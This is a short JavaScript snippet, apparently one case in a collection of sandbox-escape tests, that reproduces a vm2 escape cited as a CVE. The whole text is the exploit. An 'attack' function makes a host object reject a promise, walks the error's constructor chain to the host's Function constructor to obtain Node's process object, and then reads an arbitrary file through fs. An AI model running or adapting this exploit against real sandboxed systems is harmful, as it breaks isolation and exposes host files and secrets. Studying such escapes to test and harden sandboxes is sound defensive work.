// What a promise of the host's is rejected with.
// after: read
// source: vm2: CVE-2026-44000
async function attack({ path }) {
  let process;
  await store.incr('x', 'not a number').catch((error) => { process = error.constructor.constructor('return process')(); });
  process ??= (() => {}).constructor('return process')();
  return { text: await process.mainModule.require('fs').readFileSync(path) };
}
